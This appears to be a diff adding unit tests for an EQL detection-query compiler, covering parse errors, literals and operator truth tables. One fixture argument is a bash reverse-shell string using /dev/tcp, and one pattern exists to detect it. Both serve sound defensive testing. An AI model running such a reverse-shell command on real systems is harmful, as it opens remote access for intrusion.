@@ -1,0 +1,168 @@
+import { describe, expect, it } from "vitest";
+import { compileEql, EqlError } from "../../../src/eql/compile.js";
+
+const test = (where: string, doc: Record<string, unknown>) => compileEql(`process where ${where}`).test(doc);
+
+describe("compileEql: parse and compile errors", () => {
+  const cases: [string, RegExp][] = [
+    ["sequence by process.entity_id [process where true] [network where true]", /^sequence queries are not supported.* at 1:1$/],
+    ["sample by host.id [process where true]", /^sample queries are not supported.* at 1:1$/],
+    ['process where process.name == "a" | head 5', /^pipes \(\|\) are not supported at 1:35$/],
+    ['process where startsWith(process.name, "b")', /^function call startsWith\(\) is not supported at 1:15$/],
+    ['process where process.name == length("x")', /^function call length\(\) is not supported at 1:31$/],
+    ['process where process.name ~= "a"', /^unknown operator "~" after process.name at 1:28$/],
+    ['process where process.name = "a"', /^unknown operator "=" after process.name at 1:28$/],
+    ['process where process.name contains "a"', /^unknown operator "contains" after process.name at 1:28$/],
+    ['process where\n  process.name == "a" and\n  process.pid === 3', /^expected a value, found "=" at 3:17$/],
+    ["process where process.name == process.parent.name", /^comparing field to field .* at 1:31$/],
+    ['process where (process.name == "a"', /^expected "\)" to close the parenthesis, found end of query at 1:35$/],
+    ['process where process.name == "a', /^unterminated string at 1:31$/],
+    ["process where process.name", /needs an operator .* at 1:27$/],
+    ['process process.name == "a"', /^expected "where" after the event category/],
+    ['where process.name == "a"', /^expected an event category/],
+    ["process where", /^unexpected end of query at 1:14$/],
+    ['process where process.name regex "("', /^invalid regex "\(".* at 1:28$/],
+    ['process where process.name in "a"', /^expected "\(" after in/],
+  ];
+  it.each(cases)("%j", (query, message) => {
+    let thrown: unknown;
+    try {
+      compileEql(query);
+    } catch (error) {
+      thrown = error;
+    }
+    expect(thrown).toBeInstanceOf(EqlError);
+    const err = thrown as EqlError;
+    expect(err.message).toMatch(message);
+    expect(err.message).not.toContain("\n");
+    expect(err.line).toBeGreaterThanOrEqual(1);
+  });
+
+  it("reports category and fields", () => {
+    const compiled = compileEql('PROCESS where a.b == 1 and (c : "x" or not a.b in (2, 3))');
+    expect(compiled.category).toBe("process");
+    expect(compiled.fields).toEqual(["a.b", "c"]);
+  });
+});
+
+describe("literals", () => {
+  it.each([
+    [`s == "a\\"b"`, { s: 'a"b' }, true],
+    [`s == 'it''s'`.replace("''", "\\'"), { s: "it's" }, true],
+    [`s == """raw \\n "q" """`, { s: 'raw \\n "q" ' }, true],
+    [`s == "tab\\there"`, { s: "tab\there" }, true],
+    ["n == 42", { n: 42 }, true],
+    ["n == -1.5", { n: -1.5 }, true],
+    ['n == "42"', { n: 42 }, false],
+    ["b == true", { b: true }, true],
+    ["b == false", { b: true }, false],
+    ["b == TRUE", { b: true }, true],
+  ])("%s on %j → %s", (where, doc, expected) => {
+    expect(test(where, doc)).toBe(expected);
+  });
+});
+
+describe("operator truth tables", () => {
+  const doc = {
+    process: {
+      name: "Bash",
+      pid: 10,
+      args: ["nohup", "bash -c 'x >& /dev/tcp/h/1 0>&1'"],
+      empty: [],
+      nothing: null,
+      parent: { name: "sh" },
+    },
+  };
+  const rows: [string, boolean][] = [
+    // == / != are case-sensitive
+    ['process.name == "Bash"', true],
+    ['process.name == "bash"', false],
+    ['process.name != "bash"', true],
+    ['process.name != "Bash"', false],
+    ['process.parent.name == "sh"', true],
+    // in / in~ / not in
+    ['process.name in ("zsh", "Bash")', true],
+    ['process.name in ("bash")', false],
+    ['process.name in~ ("BASH")', true],
+    ['process.name not in ("bash")', true],
+    ['process.name not in ("Bash", "x")', false],
+    ['process.name not in~ ("bash")', false],
+    // : is a case-insensitive whole-value wildcard
+    ['process.name : "bash"', true],
+    ['process.name : "BA*"', true],
+    ['process.name : "as"', false],
+    ['process.name : "*as*"', true],
+    ['process.name : "b?sh"', true],
+    ['process.name : "b?h"', false],
+    ['process.name : "b??sh"', false],
+    ['process.name : ("zsh", "ba*")', true],
+    ['process.name : ("zsh", "ksh")', false],
+    // * spans "/"
+    ['process.args : "*/dev/tcp/*0>&1*"', true],
+    ['process.args : "*/DEV/TCP/*"', true],
+    // like is case-sensitive, like~ not
+    ['process.name like "B*"', true],
+    ['process.name like "b*"', false],
+    ['process.name like~ "b*"', true],
+    ['process.name like ("x", "Ba?h")', true],
+    // regex / regex~ whole-value
+    ['process.name regex "B.*h"', true],
+    ['process.name regex "as"', false],
+    ['process.name regex "b.*"', false],
+    ['process.name regex~ "b.*"', true],
+    // ordering
+    ["process.pid > 9", true],
+    ["process.pid >= 10", true],
+    ["process.pid < 10", false],
+    ["process.pid <= 10", true],
+    ['process.pid > "9"', false],
+    ['process.name < "C"', true],
+    // arrays: any element; never joined
+    ['process.args == "nohup"', true],
+    ['process.args != "nohup"', false],
+    ['process.args != "other"', true],
+    ['process.args in ("x", "nohup")', true],
+    ['process.args : "nohup*bash*"', false],
+    ['process.args : "NOHUP"', true],
+    // missing field: comparisons false
+    ['process.missing == "a"', false],
+    ['process.missing != "a"', false],
+    ['process.missing in ("a")', false],
+    ['process.missing not in ("a")', false],
+    ['process.missing : "*"', false],
+    ["process.missing > 1", false],
+    ['not process.missing == "a"', true],
+    ['process.empty == "a"', false],
+    ['process.empty != "a"', false],
+    ['process.name.deeper == "a"', false],
+    // null
+    ["process.missing == null", true],
+    ["process.nothing == null", true],
+    ["process.name == null", false],
+    ["process.name != null", true],
+    ["process.nothing != null", false],
+    ["process.missing != null", false],
+    ['process.nothing : "*"', false],
+    ["process.nothing in (null)", true],
+    // boolean structure and precedence
+    ['process.name == "Bash" and process.pid == 10', true],
+    ['process.name == "x" or process.pid == 10', true],
+    ['process.name == "x" or process.pid == 10 and process.name == "y"', false],
+    ['(process.name == "x" or process.pid == 10) and process.name == "Bash"', true],
+    ['not process.name == "x" and not (process.pid == 11)', true],
+    ['not not process.name == "Bash"', true],
+  ];
+  it.each(rows)("%s → %s", (where, expected) => {
+    expect(test(where, doc)).toBe(expected);
+  });
+
+  it("wildcard metacharacters are literal", () => {
+    expect(test('s : "a.c"', { s: "abc" })).toBe(false);
+    expect(test('s : "(x)+[y]"', { s: "(x)+[y]" })).toBe(true);
+    expect(test('s : "a*"', { s: "a\nb" })).toBe(true);
+  });
+
+  it("flat dotted keys are found too", () => {
+    expect(test('process.name == "x"', { "process.name": "x" })).toBe(true);
+  });
+});
